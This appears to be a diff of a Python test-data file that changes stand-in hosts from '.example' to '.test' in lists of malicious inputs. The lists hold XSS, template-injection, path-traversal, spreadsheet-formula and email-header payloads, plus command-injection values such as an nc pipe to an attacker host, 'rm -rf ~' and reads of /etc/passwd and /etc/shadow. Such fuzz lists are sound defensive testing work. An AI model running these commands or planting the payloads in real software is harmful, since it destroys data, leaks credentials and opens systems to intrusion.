@@ -169,10 +169,10 @@ INJECTIONS = [
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
     "javascript:alert(1)", "{{ 7*7 }}", "{{ config.items() }}", "{% include '/etc/passwd' %}",
     "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${7*7}", "#{7*7}",
-    "$(rm -rf ~)", "`id`", "; cat /etc/passwd", "| nc attacker.example 4444", "&& shutdown -h now",
+    "$(rm -rf ~)", "`id`", "; cat /etc/passwd", "| nc attacker.test 4444", "&& shutdown -h now",
     "%s%s%s%n", "%(case_ref)s", "{0.__class__}", "{case_ref}", "../../../../etc/passwd",
     "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2fetc",
-    "\\\\attacker\\share", "=HYPERLINK(\"http://x.example\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
+    "\\\\attacker\\share", "=HYPERLINK(\"http://x.test\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
 ]
 # Other scripts' digits, and fullwidth and mathematical ones.
 DIGIT_ZEROS = [0x0660, 0x06F0, 0x0966, 0x09E6, 0x0E50, 0xFF10, 0x1D7CE, 0x1D7D8, 0x1D7EC]
@@ -182,7 +182,7 @@ LOOKALIKES = {"a": "\u0430", "c": "\u0441", "e": "\u0435", "o": "\u043e", "p": "
 INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d",
              "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u2060", "\u061c", "\u00ad",
              "\x00", "\x07", "\x1b", "\x1b[31m", "\x7f", "\x9b", "\x85", "\u2028", "\u2029"]
-LINE_BREAKS = ["\r\n", "\n", "\r", "\r\nBcc: someone@attacker.example", "\nSubject: urgent",
+LINE_BREAKS = ["\r\n", "\n", "\r", "\r\nBcc: someone@attacker.test", "\nSubject: urgent",
                "\r\n\r\n<html>", "\u2028", "\u0085", "\x0b", "\x0c"]
 IMPOSSIBLE_DAYS = [
     "2026-02-31", "2026-02-30", "2027-02-29", "2026-04-31", "2026-13-01", "2026-00-10", "2026-12-00",
